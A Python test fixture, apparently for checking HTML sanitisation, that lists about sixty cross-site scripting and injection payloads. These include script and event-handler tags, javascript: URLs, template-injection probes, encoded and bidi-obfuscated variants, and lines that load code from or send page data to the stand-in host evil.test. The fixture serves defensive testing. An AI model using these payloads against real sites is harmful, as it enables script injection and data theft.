"""Sixty ways in which text from elsewhere tries to become script, address or layout of a page."""

PAYLOADS = """<script>alert(1)</script>
<script src=//evil.test/x.js></script>
<SCRIPT>alert(String.fromCharCode(88))</SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
</script><script>alert(1)</script>
<script type=module>import("http://evil.test/m.js")</script>
<img src=x onerror=alert(1)>
<img src=http://evil.test/a.png>
<img src="x" onerror="fetch('http://evil.test/'+document.title)">
<img/src=x/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<math><mi xlink:href="javascript:alert(1)">点我</mi></math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=http://evil.test/></iframe>
<object data=javascript:alert(1)></object>
<embed src=http://evil.test/e.swf>
<a href=javascript:alert(1)>原文</a>
<a href="jAvAsCrIpT:alert(1)" autofocus onfocus=alert(1)>原文</a>
<a href="http://evil.test/" target=_blank>原文</a>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=http://evil.test/a.mp3 autoplay onerror=alert(1)>
<marquee onstart=alert(1)>
<style>@import url(http://evil.test/s.css);</style>
<link rel=stylesheet href=http://evil.test/s.css>
<link rel=prefetch href=http://evil.test/p>
<meta http-equiv=refresh content="0;url=http://evil.test/">
<base href=http://evil.test/>
<form action=http://evil.test/><button>提交</button></form>
<div style="background:url(http://evil.test/b.png)">底</div>
<div style="position:fixed;inset:0">遮住</div>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea></textarea><script>alert(1)</script>
<dialog open>假的</dialog>
"><script>alert(1)</script>
'"><img src=x onerror=alert(1)>
' onmouseover='alert(1)
" autofocus onfocus="alert(1)
javascript:alert(1)
data:text/html,<script>alert(1)</script>
![图](http://evil.test/q?a=1)
[原文](javascript:alert(1))
[[1]](http://evil.test/) [1]
{{constructor.constructor('alert(1)')()}}
${alert(1)}
{{7*7}} {%print(7*7)%} <%= 7*7 %> #{7*7}
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
<!--><script>alert(1)</script-->
反转\u202e)1(trela<script>\u202c回来\u2066孤立\u2069
零宽<\u200bscript>alert(1)\ufeff<\u200b/script>""".split("\n")
